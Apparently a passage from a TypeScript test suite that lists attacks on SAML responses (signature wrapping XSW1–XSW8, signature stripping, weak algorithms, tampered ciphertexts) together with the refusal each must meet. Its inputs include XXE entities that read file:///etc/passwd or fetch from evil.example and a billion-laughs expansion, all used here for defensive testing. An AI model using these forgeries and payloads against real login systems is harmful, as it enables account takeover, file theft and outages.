// Owns: the attacks on SAML answers, as a table: how each is made, and the refusal that it must meet. Those of many answers are elsewhere.
import { createHmac, createPublicKey } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import type { ErrorCode } from '@voila/protocol'
import type { CertifiedKey } from '../../src/access/saml/certificate.ts'
import { algorithms, assertionXml, encrypted, type Facts, factsOf, fieldOf, type Idp, instant, newId, responseXml, signed } from './idp.ts'

export type World = {
  readonly idp: Idp
  /** A key that the connection does not know. */
  readonly stranger: CertifiedKey
  /** Our own pair, whose certificate everybody can read. */
  readonly ours: CertifiedKey
  readonly facts: Facts
}

type Attack = {
  readonly name: string
  readonly meets: readonly ErrorCode[]
  /** The answer's XML. */
  readonly xml?: undefined | ((world: World) => string | Promise<string>)
  /** The form's field, where it is more than the XML in Base64. */
  readonly field?: (world: World) => string
  /** Whether somebody was sent away with a request; otherwise the connection takes answers that nobody asked for. */
  readonly unasked?: true
}

const mallory = 'mallory@evil.example'
const minute = 60_000

/** The text once replaced, and surely there. */
export function edited(xml: string, from: string | RegExp, to: string): string {
  const next = xml.replace(from, () => to)
  if (next === xml) throw new Error(`there is no ${from} in the answer to attack`)
  return next
}

const assertionIn = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string): string => /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? ''
const inside = (xml: string, addition: string): string => xml.replace(/(<\/[\w:]+>)$/, () => `${addition}${/(<\/[\w:]+>)$/.exec(xml)?.[0]}`)
const afterIssuer = (xml: string, addition: string): string => edited(xml, '</saml:Issuer>', `</saml:Issuer>${addition}`)
const withObject = (signature: string, content: string): string => inside(signature, `<ds:Object>${content}</ds:Object>`)

const honestAnswer = ({ idp, facts }: World): string => idp.answer(facts)
const honestResponse = ({ idp, facts }: World): string => idp.answer(facts, 'response')
/** What the attacker would rather be: unsigned, with the id of the real one or another. */
const evil = ({ facts }: World, id = newId()): string => assertionXml({ ...facts, nameId: mallory, assertionId: id })
const evilResponse = ({ facts }: World, assertion: string, id = newId()): string => responseXml({ ...facts, responseId: id }, assertion)

/** An honest answer changed after it was signed. */
const tampered =
  (from: string | RegExp, to: string) =>
  (world: World): string =>
    edited(honestAnswer(world), from, to)
/** What the identity provider itself says, signed as it should be. */
const said =
  (change: (assertion: string, world: World) => string) =>
  (world: World): string => {
    const xml = responseXml(world.facts, change(assertionXml(world.facts), world))
    return signed(xml, world.facts.assertionId, { key: world.idp.key })
  }
const saidOf =
  (facts: (world: World) => Partial<Facts>) =>
  (world: World): string =>
    world.idp.answer({ ...world.facts, ...facts(world) })
const saidAround =
  (change: (response: string, world: World) => string) =>
  (world: World): string =>
    change(honestAnswer(world), world)
/** Signed rightly by the identity provider, but in another way. */
const signedBy =
  (options: Partial<Parameters<typeof signed>[2]>) =>
  ({ idp, facts }: World): string =>
    signed(responseXml(facts), facts.assertionId, { key: idp.key, ...options })
const ciphered =
  (make: (world: World) => string, options: Partial<Parameters<typeof encrypted>[1]> = {}) =>
  async (world: World): Promise<string> =>
    responseXml(world.facts, await encrypted(make(world), { certificate: world.ours.certificate, ...options }))
const signedAssertion = ({ idp, facts }: World): string => assertionIn(idp.answer(facts))

/** Where an assertion could hide, by the element around it. */
const hidingPlaces: readonly (readonly [string, (evilAssertion: string, original: string) => string])[] = [
  ['an Advice', (around, original) => edited(around, '</saml:Conditions>', `</saml:Conditions><saml:Advice>${original}</saml:Advice>`)],
  ['an AttributeValue', (around, original) => edited(around, /(?<=xs:string">)Amélie/, original)],
  [
    'SubjectConfirmationData',
    (around, original) =>
      edited(around, /(<saml:SubjectConfirmationData[^>]*)\/>/, `<saml:SubjectConfirmationData>${original}</saml:SubjectConfirmationData>`),
  ],
  ['Conditions', (around, original) => edited(around, '</saml:Conditions>', `${original}</saml:Conditions>`)],
  ['NameID', (around, original) => edited(around, mallory, `${mallory}${original}`)],
  ['an element of no namespace', (around, original) => inside(around, `<hidden xmlns="">${original}</hidden>`)],
  [
    'AuthnContextDecl',
    (around, original) =>
      edited(around, '</saml:AuthnContext>', `<saml:AuthnContextDecl>${original}</saml:AuthnContextDecl></saml:AuthnContext>`),
  ],
]

const wrapping: readonly Attack[] = [
  ...(['another id', 'the same id'] as const).flatMap((which): Attack[] => {
    const idOf = ({ facts }: World): string => (which === 'another id' ? newId() : facts.assertionId)
    const responseIdOf = ({ facts }: World): string => (which === 'another id' ? newId() : facts.responseId)
    const around = (world: World): string => evil(world, idOf(world))
    const shift = (make: (world: World, original: string, signature: string) => string) => (world: World) => {
      const original = signedAssertion(world)
      return make(world, original, signatureIn(original))
    }
    const meets: ErrorCode[] = ['saml_malformed', 'saml_signature']
    return [
      {
        name: `XSW1: the signed response inside the signature of a forged one, with ${which}`,
        meets,
        xml: (world) => {
          const original = honestResponse(world)
          const signature = signatureIn(original)
          return afterIssuer(evilResponse(world, evil(world), responseIdOf(world)), withObject(signature, edited(original, signature, '')))
        },
      },
      {
        name: `XSW2: the signed response beside its signature in a forged one, with ${which}`,
        meets,
        xml: (world) => {
          const original = honestResponse(world)
          const signature = signatureIn(original)
          return afterIssuer(evilResponse(world, evil(world), responseIdOf(world)), `${edited(original, signature, '')}${signature}`)
        },
      },
      {
        name: `XSW3: a forged assertion before the signed one, with ${which}`,
        meets,
        xml: shift((world, original) => responseXml(world.facts, `${around(world)}${original}`)),
      },
      {
        name: `XSW3: a forged assertion after the signed one, with ${which}`,
        meets,
        xml: shift((world, original) => responseXml(world.facts, `${original}${around(world)}`)),
      },
      {
        name: `XSW4: the signed assertion inside a forged one, with ${which}`,
        meets,
        xml: shift((world, original) => responseXml(world.facts, inside(around(world), original))),
      },
      {
        name: `XSW5: the signature in a forged assertion, the signed one after it, with ${which}`,
        meets,
        xml: shift((world, original, signature) =>
          responseXml(world.facts, `${afterIssuer(around(world), signature)}${edited(original, signature, '')}`),
        ),
      },
      {
        name: `XSW6: the signed assertion inside its signature in a forged one, with ${which}`,
        meets,
        xml: shift((world, original, signature) =>
          responseXml(world.facts, afterIssuer(around(world), inside(signature, edited(original, signature, '')))),
        ),
      },
      {
        name: `XSW7: a forged assertion in Extensions, with ${which}`,
        meets,
        xml: shift((world, original) =>
          afterIssuer(responseXml(world.facts, original), `<samlp:Extensions>${around(world)}</samlp:Extensions>`),
        ),
      },
      {
        name: `XSW7: the signed assertion in Extensions, a forged one in its place, with ${which}`,
        meets,
        xml: shift((world, original) =>
          afterIssuer(responseXml(world.facts, around(world)), `<samlp:Extensions>${original}</samlp:Extensions>`),
        ),
      },
      {
        name: `XSW8: the signed assertion in an Object of its signature in a forged one, with ${which}`,
        meets,
        xml: shift((world, original, signature) =>
          responseXml(world.facts, afterIssuer(around(world), withObject(signature, edited(original, signature, '')))),
        ),
      },
      ...hidingPlaces.map(
        ([place, hide]): Attack => ({
          name: `the signed assertion in ${place} of a forged one, with ${which}`,
          meets,
          xml: shift((world, original) => responseXml(world.facts, hide(around(world), original))),
        }),
      ),
      {
        name: `the signed response in Extensions of a forged one, with ${which}`,
        meets,
        xml: (world) =>
          afterIssuer(
            evilResponse(world, evil(world), responseIdOf(world)),
            `<samlp:Extensions>${honestResponse(world)}</samlp:Extensions>`,
          ),
      },
      {
        name: `the signed response in StatusDetail of a forged one, with ${which}`,
        meets,
        xml: (world) =>
          edited(
            evilResponse(world, evil(world), responseIdOf(world)),
            '</samlp:Status>',
            `<samlp:StatusDetail>${honestResponse(world)}</samlp:StatusDetail></samlp:Status>`,
          ),
      },
      {
        name: `the signed response in an attribute of a forged one, with ${which}`,
        meets,
        xml: (world) => evilResponse(world, edited(evil(world), /(?<=xs:string">)Amélie/, honestResponse(world)), responseIdOf(world)),
      },
      {
        name: `the signed assertion in the KeyInfo of a forged one, with ${which}`,
        meets,
        xml: shift((world, original, signature) =>
          responseXml(
            world.facts,
            afterIssuer(around(world), edited(signature, '</ds:KeyInfo>', `${edited(original, signature, '')}</ds:KeyInfo>`)),
          ),
        ),
      },
    ]
  }),
  {
    name: 'a forged assertion of SAML 1.1 beside the signed one',
    meets: ['saml_malformed'],
    xml: (world) => inside(honestAnswer(world), '<Assertion xmlns="urn:oasis:names:tc:SAML:1.0:assertion" AssertionID="_a"/>'),
  },
  {
    name: 'a forged assertion, encrypted for us, beside the signed one',
    meets: ['saml_malformed'],
    xml: async (world) => inside(honestAnswer(world), await encrypted(evil(world), { certificate: world.ours.certificate })),
  },
  {
    name: 'the signed response inside an element of no meaning',
    meets: ['saml_malformed'],
    xml: (world) => `<all>${honestResponse(world)}</all>`,
  },
  {
    name: 'two responses one after the other',
    meets: ['saml_malformed'],
    xml: (world) => honestAnswer(world) + evilResponse(world, evil(world)),
  },
  {
    name: 'a forged response whose Id (not ID) is that of the signed assertion',
    meets: ['saml_malformed', 'saml_signature'],
    xml: (world) => edited(honestAnswer(world), '<samlp:Response ', `<samlp:Response Id="${world.facts.assertionId}" `),
  },
  {
    name: 'a forged assertion whose id is that of the response which is signed',
    meets: ['saml_malformed', 'saml_signature'],
    xml: (world) => {
      const original = honestResponse(world)
      return edited(original, assertionIn(original), evil(world, world.facts.responseId))
    },
  },
]

const withSignature =
  (change: (signature: string, world: World) => string) =>
  (world: World): string => {
    const xml = honestAnswer(world)
    const signature = signatureIn(xml)
    return edited(xml, signature, change(signature, world))
  }

const signatures: readonly Attack[] = [
  { name: 'no signature at all', meets: ['saml_signature'], xml: ({ facts }) => responseXml(facts) },
  { name: 'the signature taken away', meets: ['saml_signature'], xml: withSignature(() => '') },
  {
    name: 'the signature of the response taken away, and the assertion changed',
    meets: ['saml_signature'],
    xml: ({ idp, facts }) => {
      const xml = idp.answer(facts, 'both')
      return edited(edited(xml, signatureIn(xml), ''), facts.nameId, mallory)
    },
  },
  {
    name: 'an empty signature',
    meets: ['saml_malformed'],
    xml: withSignature(() => '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'),
  },
  {
    name: 'a signature without SignedInfo',
    meets: ['saml_malformed'],
    xml: withSignature((s) => edited(s, /<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/, '')),
  },
  {
    name: 'a signature without SignatureValue',
    meets: ['saml_malformed'],
    xml: withSignature((s) => edited(s, /<ds:SignatureValue>[\s\S]*<\/ds:SignatureValue>/, '')),
  },
  {
    name: 'an empty SignatureValue',
    meets: ['saml_signature', 'saml_malformed'],
    xml: withSignature((s) => edited(s, /(?<=<ds:SignatureValue>)[^<]*/, '')),
  },
  {
    name: 'an empty DigestValue',
    meets: ['saml_signature', 'saml_malformed'],
    xml: withSignature((s) => edited(s, /(?<=<ds:DigestValue>)[^<]*/, '')),
  },
  {
    name: 'a signature of a key that nobody declared',
    meets: ['saml_signature'],
    xml: (world) => signedBy({ key: world.stranger })(world),
  },
  {
    name: 'a signature of such a key that says it is the declared one',
    meets: ['saml_signature'],
    xml: (world) => signedBy({ key: { privateKey: world.stranger.privateKey, certificate: world.idp.key.certificate } })(world),
  },
  {
    name: 'a signature that holds its own public key as KeyValue',
    meets: ['saml_signature'],
    xml: (world) => {
      const { n, e } = createPublicKey(world.stranger.certificate).export({ format: 'jwk' })
      const base64 = (text: string | undefined): string => Buffer.from(text ?? '', 'base64url').toString('base64')
      const value = `<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${base64(n)}</ds:Modulus><ds:Exponent>${base64(e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>`
      return edited(signedBy({ key: world.stranger })(world), /<ds:KeyInfo>[\s\S]*?<\/ds:KeyInfo>/, value)
    },
  },
  {
    name: 'a signature of our own key, whose certificate the metadata shows',
    meets: ['saml_signature'],
    xml: (world) => signedBy({ key: world.ours })(world),
  },
  {
    name: 'the signature of another assertion',
    meets: ['saml_signature'],
    xml: (world) => withSignature(() => signatureIn(world.idp.answer(factsOf({ requestId: world.facts.requestId }))))(world),
  },
  {
    name: 'the response signed by a stranger, the assertion by the identity provider',
    meets: ['saml_signature'],
    xml: (world) => signed(honestAnswer(world), world.facts.responseId, { key: world.stranger }),
  },
  {
    name: 'the response signed by the identity provider, the assertion by a stranger',
    meets: ['saml_signature'],
    xml: ({ idp, stranger, facts }) =>
      signed(signed(responseXml(facts), facts.assertionId, { key: stranger }), facts.responseId, { key: idp.key }),
  },
  { name: 'two signatures', meets: ['saml_malformed'], xml: withSignature((s) => s + s) },
  {
    name: 'a forged signature before the real one',
    meets: ['saml_malformed'],
    xml: (world) => withSignature((s) => signatureIn(signedBy({ key: world.stranger })(world)) + s)(world),
  },
  {
    name: 'the signature not in the assertion but beside it',
    meets: ['saml_malformed', 'saml_signature'],
    xml: (world) => {
      const xml = honestAnswer(world)
      const signature = signatureIn(xml)
      return afterIssuer(edited(xml, signature, ''), signature)
    },
  },
  ...(
    [
      ['NameID', '>amelie.laurent@aldermoor.example</saml:NameID>', `>${mallory}</saml:NameID>`],
      ['an attribute', 'Amélie', 'Mallory'],
      ['the audience', /(?<=<saml:Audience>)[^<]*/, 'https://elsewhere.example/metadata'],
      ['the time of the end', /NotOnOrAfter="[^"]*"/, `NotOnOrAfter="${instant(Date.now() + 4 * minute)}"`],
      ['the recipient', /Recipient="[^"]*"/, 'Recipient="https://elsewhere.example/acs"'],
      ['the format of NameID', 'nameid-format:emailAddress', 'nameid-format:persistent'],
      ['the name of an attribute', 'Name="mail"', 'Name="sub"'],
      ['the session index', 'SessionIndex="_session"', 'SessionIndex="_other"'],
      ['the digest', /(?<=<ds:DigestValue>)./, 'A'],
      ['the signature', /(?<=<ds:SignatureValue>)...../, 'AAAAA'],
      ['what is signed', /<ds:SignedInfo>/, '<ds:SignedInfo Id="_i">'],
    ] as const
  ).map(
    ([what, from, to]): Attack => ({ name: `${what} changed after it was signed`, meets: ['saml_signature'], xml: tampered(from, to) }),
  ),
]

/** Put into an honest answer after it was signed; canonicalization drops comments, so that the signature holds all the same. */
const texts: readonly Attack[] = [
  ['a comment in NameID', '@aldermoor', '<!-- x -->@aldermoor'],
  ['a comment before NameID', '<saml:NameID', '<!-- x --><saml:NameID'],
  ['a comment in an attribute', 'Amélie', 'Amé<!---->lie'],
  ['a comment in the digest', /(?<=<ds:DigestValue>)/, '<!-- AAAA -->'],
  ['a comment at the end of the digest', '</ds:DigestValue>', '<!-- AAAA --></ds:DigestValue>'],
  ['a comment in the signature', /(?<=<ds:SignatureValue>)/, '<!-- x -->'],
  ['a comment in the audience', /(?<=<saml:Audience>)/, '<!-- x -->'],
  ['a comment before the response', /^/, '<!-- x -->'],
  ['a comment after the response', /$/, '<!-- x -->'],
  ['CDATA in NameID', 'amelie.laurent@', '<![CDATA[amelie.laurent@]]>'],
  ['CDATA in an attribute', 'Amélie', '<![CDATA[Amélie]]>'],
  ['a processing instruction in NameID', '@aldermoor', '<?x y?>@aldermoor'],
  ['a processing instruction before the response', /^/, '<?xml-stylesheet href="https://evil.example/x.xsl"?>'],
  ['a DOCTYPE', /^/, '<!DOCTYPE samlp:Response>'],
  ['a DOCTYPE with an entity that is used', /^/, '<!DOCTYPE r [<!ENTITY e "mallory">]>'],
  ['a DOCTYPE that reads a file', /^/, '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ['a DOCTYPE that asks another server', /^/, '<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'],
  ['a DOCTYPE with a parameter entity', /^/, '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>'],
  [
    'entities that grow to gigabytes',
    /^/,
    `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'.replace(/./g, (c) => `<!ENTITY ${c} "${`&${String.fromCharCode(c.charCodeAt(0) - 1)};`.repeat(10)}">`)}]>`,
  ],
  ['a DOCTYPE that gives attributes', /^/, '<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "x">]>'],
  ['a DOCTYPE in lower case', /^/, '<!doctype html>'],
  ['an entity that nobody declared', '@aldermoor', '&nbsp;@aldermoor'],
  ['an ampersand by itself', '@aldermoor', '&@aldermoor'],
  ['the number of a NUL', '@aldermoor', '&#0;@aldermoor'],
  ['the number of half a character', '@aldermoor', '&#xD800;@aldermoor'],
  ['a number beyond Unicode', '@aldermoor', '&#x110000;@aldermoor'],
  ['a NUL', '@aldermoor', '\0@aldermoor'],
  ['a control character', '@aldermoor', '\u0008@aldermoor'],
  ['XML 1.1', /^/, '<?xml version="1.1"?>'],
  ['another encoding', /^/, '<?xml version="1.0" encoding="ISO-8859-1"?>'],
  ['UTF-7', /^/, '<?xml version="1.0" encoding="UTF-7"?>'],
  ['a byte order mark', /^/, '\uFEFF'],
  ['text before the response', /^/, 'hello'],
  ['text after the response', /$/, 'hello'],
  ['a tag that closes another', '</saml:Subject><saml:Conditions', '</saml:Conditions><saml:Conditions'],
  ['an element that is never closed', '</saml:Assertion>', ''],
  ['an attribute without quotes', 'Version="2.0"', 'Version=2.0'],
  ['an attribute without a value', 'Version="2.0"', 'Version'],
  ['an attribute that is there twice', 'Version="2.0"', 'Version="2.0" Version="2.0"'],
  ['a tag in an attribute', 'Version="2.0"', 'Version="2.0" x="<a>"'],
  ['a prefix that is not declared', '<samlp:Status>', '<x:y/><samlp:Status>'],
  ['an attribute whose prefix is not declared', '<samlp:Status>', '<samlp:Status x:y="1">'],
  ['the prefix xml declared anew', '<samlp:Status>', '<samlp:Status xmlns:xml="urn:x">'],
  ['xml:base', '<samlp:Status>', '<samlp:Status xml:base="https://evil.example/">'],
  ['xml:id', '<samlp:Status>', '<samlp:Status xml:id="_x">'],
  ['two attributes that are one by their namespace', '<samlp:Status>', '<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2">'],
  ['sixty levels', '<samlp:Status>', `${'<samlp:Status>'.repeat(60)}${'</samlp:Status>'.repeat(60)}<samlp:Status>`],
].map(([name, from, to]): Attack => ({ name: `${name}`, meets: ['saml_malformed'], xml: tampered(from as string | RegExp, `${to}`) }))

const signedWith = (changes: Partial<Parameters<typeof signed>[2]>): Attack['xml'] => signedBy(changes)
const { enveloped, exclusive } = algorithms

const algorithmAttacks: readonly Attack[] = [
  { name: 'RSA with SHA-1', meets: ['saml_algorithm'], xml: signedWith({ method: algorithms.rsaSha1 }) },
  { name: 'a digest by SHA-1', meets: ['saml_algorithm'], xml: signedWith({ digest: algorithms.sha1 }) },
  { name: 'SHA-1 throughout', meets: ['saml_algorithm'], xml: signedWith({ method: algorithms.rsaSha1, digest: algorithms.sha1 }) },
  { name: 'inclusive canonicalization of SignedInfo', meets: ['saml_algorithm'], xml: signedWith({ canonicalization: algorithms.c14n }) },
  {
    name: 'canonicalization of SignedInfo with comments',
    meets: ['saml_algorithm'],
    xml: signedWith({ canonicalization: algorithms.exclusiveWithComments }),
  },
  {
    name: 'inclusive canonicalization with comments of SignedInfo',
    meets: ['saml_algorithm'],
    xml: signedWith({ canonicalization: algorithms.c14nWithComments }),
  },
  ...(
    [
      ['inclusive canonicalization', [enveloped, algorithms.c14n]],
      ['canonicalization with comments', [enveloped, algorithms.exclusiveWithComments]],
      ['no canonicalization', [enveloped]],
      ['canonicalization before the signature is taken out', [exclusive, enveloped]],
      ['canonicalization twice', [enveloped, exclusive, exclusive]],
    ] as const
  ).map(([what, transforms]): Attack => ({ name: `transforms: ${what}`, meets: ['saml_algorithm'], xml: signedWith({ transforms }) })),
  ...(
    [
      ['XSLT', 'http://www.w3.org/TR/1999/REC-xslt-19991116'],
      ['XPath', 'http://www.w3.org/TR/1999/REC-xpath-19991116'],
      ['an XPath filter', 'http://www.w3.org/2002/06/xmldsig-filter2'],
      ['Base64', 'http://www.w3.org/2000/09/xmldsig#base64'],
      ['one that nobody knows', 'urn:evil'],
    ] as const
  ).map(
    ([what, uri]): Attack => ({
      name: `a transform more: ${what}`,
      meets: ['saml_algorithm'],
      xml: tampered('</ds:Transforms>', `<ds:Transform Algorithm="${uri}"/></ds:Transforms>`),
    }),
  ),
  {
    name: 'an XPath in a transform',
    meets: ['saml_malformed'],
    xml: tampered(
      `<ds:Transform Algorithm="${enveloped}"/>`,
      `<ds:Transform Algorithm="${enveloped}"><ds:XPath>1</ds:XPath></ds:Transform>`,
    ),
  },
  ...(
    [
      ['HMAC-SHA1', 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'],
      ['HMAC-SHA256', 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256'],
      ['RSA with MD5', 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5'],
      ['DSA', 'http://www.w3.org/2000/09/xmldsig#dsa-sha1'],
      ['no algorithm', ''],
      ['one that nobody knows', 'urn:evil'],
    ] as const
  ).map(
    ([what, uri]): Attack => ({
      name: `the signature said to be ${what}`,
      meets: ['saml_algorithm'],
      xml: tampered(`<ds:SignatureMethod Algorithm="${algorithms.rsaSha256}"`, `<ds:SignatureMethod Algorithm="${uri}"`),
    }),
  ),
  {
    name: 'an HMAC with the certificate as its secret',
    meets: ['saml_algorithm'],
    xml: (world) => {
      const xml = edited(honestAnswer(world), algorithms.rsaSha256, 'http://www.w3.org/2000/09/xmldsig#hmac-sha1')
      const info = /<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/.exec(xml)?.[0] ?? ''
      const mac = createHmac('sha1', world.idp.key.certificate).update(info).digest('base64')
      return edited(xml, /(?<=<ds:SignatureValue>)[^<]*/, mac)
    },
  },
  {
    name: 'a digest by MD5',
    meets: ['saml_algorithm'],
    xml: tampered(
      `<ds:DigestMethod Algorithm="${algorithms.sha256}"`,
      '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#md5"',
    ),
  },
  {
    name: 'two references',
    meets: ['saml_malformed'],
    xml: withSignature((s) =>
      edited(s, /<ds:Reference[\s\S]*<\/ds:Reference>/, (/<ds:Reference[\s\S]*<\/ds:Reference>/.exec(s)?.[0] ?? '').repeat(2)),
    ),
  },
  { name: 'a reference to the whole document', meets: ['saml_signature'], xml: tampered(/URI="[^"]*"/, 'URI=""') },
  { name: 'a reference without an address', meets: ['saml_signature'], xml: tampered(/ URI="[^"]*"/, '') },
  { name: 'a reference to something elsewhere', meets: ['saml_signature'], xml: tampered(/URI="[^"]*"/, 'URI="https://evil.example/x"') },
  { name: 'a reference by XPointer', meets: ['saml_signature'], xml: tampered(/URI="[^"]*"/, 'URI="#xpointer(id(\'x\'))"') },
  { name: 'a reference with a quote', meets: ['saml_signature'], xml: tampered(/URI="[^"]*"/, "URI=\"#a' or '1'='1\"") },
  {
    name: 'two SignedInfo',
    meets: ['saml_malformed'],
    xml: withSignature((s) =>
      edited(s, /<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/, (/<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/.exec(s)?.[0] ?? '').repeat(2)),
    ),
  },
  {
    name: 'two digests',
    meets: ['saml_malformed'],
    xml: tampered('<ds:DigestValue>', '<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>'),
  },
  {
    name: 'two signature values',
    meets: ['saml_malformed'],
    xml: tampered('<ds:SignatureValue>', '<ds:SignatureValue>AAAA</ds:SignatureValue><ds:SignatureValue>'),
  },
  { name: 'an element in the digest', meets: ['saml_malformed'], xml: tampered(/(?<=<ds:DigestValue>)/, '<x xmlns="urn:x">AAAA</x>') },
  { name: 'a manifest in the signature', meets: ['saml_malformed'], xml: withSignature((s) => withObject(s, '<ds:Manifest/>')) },
  {
    name: 'KeyInfo before SignedInfo, with another SignatureMethod in it',
    meets: ['saml_malformed'],
    xml: withSignature((s) =>
      edited(s, '<ds:SignedInfo>', `<ds:KeyInfo><ds:SignatureMethod Algorithm="${algorithms.rsaSha1}"/></ds:KeyInfo><ds:SignedInfo>`),
    ),
  },
  {
    name: 'SignedInfo after SignatureValue',
    meets: ['saml_malformed'],
    xml: withSignature((s) => {
      const value = /<ds:SignatureValue>[\s\S]*<\/ds:SignatureValue>/.exec(s)?.[0] ?? ''
      return edited(edited(s, value, ''), '<ds:SignedInfo>', `${value}<ds:SignedInfo>`)
    }),
  },
]

const ciphers: readonly Attack[] = [
  { name: 'an encrypted assertion that nobody signed', meets: ['saml_signature'], xml: ciphered(({ facts }) => assertionXml(facts)) },
  {
    name: 'an encrypted assertion that a stranger signed',
    meets: ['saml_signature'],
    xml: ciphered((world) => assertionIn(signedBy({ key: world.stranger })(world))),
  },
  {
    name: 'an encrypted assertion with SHA-1 inside',
    meets: ['saml_signature'],
    xml: ciphered((world) => assertionIn(signedBy({ method: algorithms.rsaSha1 })(world))),
  },
  {
    name: 'an encrypted assertion with a comment inside',
    meets: ['saml_signature'],
    xml: ciphered((world) => edited(signedAssertion(world), '@aldermoor', '<!-- x -->@aldermoor')),
  },
  {
    name: 'an encrypted assertion with a DOCTYPE inside',
    meets: ['saml_signature'],
    xml: ciphered((world) => `<!DOCTYPE a [<!ENTITY e "x">]>${signedAssertion(world)}`),
  },
  {
    name: 'a forged assertion around the signed one, encrypted',
    meets: ['saml_signature'],
    xml: ciphered((world) => inside(evil(world), signedAssertion(world))),
  },
  {
    name: 'a forged assertion before the signed one, encrypted',
    meets: ['saml_signature'],
    xml: ciphered((world) => evil(world) + signedAssertion(world)),
  },
  {
    name: 'a name encrypted in place of an assertion',
    meets: ['saml_signature'],
    xml: ciphered(() => `<saml:NameID xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${mallory}</saml:NameID>`),
  },
  { name: 'nothing, encrypted', meets: ['saml_signature'], xml: ciphered(() => ' ') },
  {
    name: 'an assertion encrypted for somebody else',
    meets: ['saml_signature'],
    xml: (world) => ciphered(signedAssertion, { certificate: world.stranger.certificate })(world),
  },
  {
    name: 'a cipher changed on the way (GCM)',
    meets: ['saml_signature'],
    xml: async (world) => edited(await ciphered(signedAssertion)(world), /(?<=<xenc:CipherValue>.{400})...../, 'AAAAA'),
  },
  {
    name: 'a cipher changed on the way (CBC)',
    meets: ['saml_signature'],
    xml: async (world) =>
      edited(
        await ciphered(signedAssertion, { algorithm: 'http://www.w3.org/2001/04/xmlenc#aes256-cbc' })(world),
        /(?<=<xenc:CipherValue>.{400})...../,
        'AAAAA',
      ),
  },
  {
    name: 'triple DES',
    meets: ['saml_algorithm'],
    xml: ciphered(signedAssertion, { algorithm: 'http://www.w3.org/2001/04/xmlenc#tripledes-cbc' }),
  },
  {
    name: 'a key encrypted with RSA 1.5',
    meets: ['saml_algorithm'],
    xml: ciphered(signedAssertion, { keyAlgorithm: 'http://www.w3.org/2001/04/xmlenc#rsa-1_5' }),
  },
  {
    name: 'two encrypted keys',
    meets: ['saml_malformed'],
    xml: async (world) => {
      const xml = await ciphered(signedAssertion)(world)
      const key = /<e:EncryptedKey[\s\S]*<\/e:EncryptedKey>/.exec(xml)?.[0] ?? ''
      return edited(xml, '</saml:EncryptedAssertion>', `${key}</saml:EncryptedAssertion>`)
    },
  },
  {
    name: 'no encrypted key',
    meets: ['saml_malformed'],
    xml: async (world) => edited(await ciphered(signedAssertion)(world), /<e:EncryptedKey[\s\S]*<\/e:EncryptedKey>/, ''),
  },
  {
    name: 'a cipher that is to be fetched',
    meets: ['saml_malformed'],
    xml: async (world) =>
      edited(
        await ciphered(signedAssertion)(world),
        /<xenc:CipherValue>[\s\S]*<\/xenc:CipherValue>/,
        '<xenc:CipherReference URI="https://evil.example/x"/>',
      ),
  },
  {
    name: 'two encrypted assertions',
    meets: ['saml_malformed'],
    xml: async (world) =>
      inside(await ciphered(signedAssertion)(world), await encrypted(evil(world), { certificate: world.ours.certificate })),
  },
]

const elsewhere = 'https://live.example.com/saml/0198c0de-0000-7000-8000-00000000beef/acs'
const withAssertionAttribute = (from: string | RegExp, to: string): Attack['xml'] => said((assertion) => edited(assertion, from, to))

/** Signed as it should be, by the right identity provider: what it says is wrong. */
const contents: readonly Attack[] = [
  {
    name: 'the issuer of the assertion is another',
    meets: ['saml_issuer'],
    xml: said((a, { facts }) => edited(a, `>${facts.issuer}<`, '>https://other.example<')),
  },
  {
    name: 'the issuer of the response is another',
    meets: ['saml_issuer'],
    xml: saidAround((r, { facts }) => edited(r, `>${facts.issuer}<`, '>https://other.example<')),
  },
  {
    name: 'the assertion has no issuer',
    meets: ['saml_issuer'],
    xml: ({ idp, facts }) =>
      signed(responseXml(facts, edited(assertionXml(facts), /<saml:Issuer>[^<]*<\/saml:Issuer>/, '')), facts.responseId, { key: idp.key }),
  },
  { name: 'the issuer is ours with a slash more', meets: ['saml_issuer'], xml: saidOf(({ facts }) => ({ issuer: `${facts.issuer}/` })) },

  { name: 'the audience is another', meets: ['saml_audience'], xml: saidOf(() => ({ audience: 'https://elsewhere.example' })) },
  {
    name: 'the audience is another organization’s',
    meets: ['saml_audience'],
    xml: saidOf(() => ({ audience: elsewhere.replace('/acs', '/metadata') })),
  },
  {
    name: 'the audience begins as ours',
    meets: ['saml_audience'],
    xml: saidOf(({ facts }) => ({ audience: `${facts.audience}.evil.example` })),
  },
  {
    name: 'the audience is in capitals',
    meets: ['saml_audience'],
    xml: saidOf(({ facts }) => ({ audience: facts.audience.toUpperCase() })),
  },
  { name: 'the audience is empty', meets: ['saml_audience'], xml: saidOf(() => ({ audience: '' })) },
  {
    name: 'there is no audience',
    meets: ['saml_audience'],
    xml: withAssertionAttribute(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, ''),
  },
  {
    name: 'one of two restrictions is not for us',
    meets: ['saml_audience'],
    xml: withAssertionAttribute(
      '</saml:AudienceRestriction>',
      '</saml:AudienceRestriction><saml:AudienceRestriction><saml:Audience>https://elsewhere.example</saml:Audience></saml:AudienceRestriction>',
    ),
  },

  {
    name: 'the recipient is another',
    meets: ['saml_recipient'],
